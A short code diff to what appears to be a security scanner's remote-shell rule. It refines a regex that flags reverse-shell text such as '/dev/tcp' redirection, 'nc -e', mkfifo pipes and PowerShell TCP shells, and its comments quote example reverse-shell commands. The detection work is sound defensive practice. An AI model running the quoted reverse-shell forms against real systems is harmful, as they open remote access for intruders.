@@ -476,7 +476,10 @@ class ClipboardHijack(RuleBase):
 # --- remote shells -----------------------------------------------------------------------------
 
 SHELL_TEXT = LazyPattern(
-    r"/dev/tcp/|\bn(?:c|cat)\b[^\n'\"]{0,60}\s-e\s|\bbash\s+-i\s*>&|\bsh\s+-i\b[^\n]{0,40}\|\s*nc\b|"
+    # /dev/tcp with a shell's input or output tied to it (``bash -i >& /dev/tcp/h/p 0>&1``,
+    # ``exec 5<>/dev/tcp/h/p``); ``cat < /dev/null > /dev/tcp/h/p`` only tests that a port opens.
+    r"(?:>&|<&|<>|\s-i\b)[^\n]{0,80}/dev/tcp/|/dev/tcp/[^\n]{0,80}(?:>&|<&)|"
+    r"\bn(?:c|cat)\b[^\n'\"]{0,60}\s-e\s|\bbash\s+-i\s*>&|\bsh\s+-i\b[^\n]{0,40}\|\s*nc\b|"
     r"\bmkfifo\b[^\n]{0,60}\bnc\b|\bInvoke-PowerShellTcp\b|\bSystem\.Net\.Sockets\.TCPClient\b"
 )
 _SHELL_WORDS = ("/dev/tcp", "nc ", "ncat", "bash", "sh -i", "mkfifo", "powershelltcp", "tcpclient")
